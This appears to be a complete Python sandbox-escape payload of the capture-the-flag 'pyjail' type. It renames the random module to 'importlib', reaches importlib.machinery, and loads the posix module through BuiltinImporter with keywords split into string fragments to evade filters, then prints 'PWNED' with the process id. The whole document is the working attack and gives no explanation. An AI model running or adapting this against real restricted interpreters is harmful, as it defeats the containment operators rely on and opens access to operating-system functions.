import random
random.__init__("import" + "lib")
from random import machinery
class S:
    name = "pos" + "ix"
p = machinery.BuiltinImporter.create_module(S())
print("PW" + "NED", p.getpid())
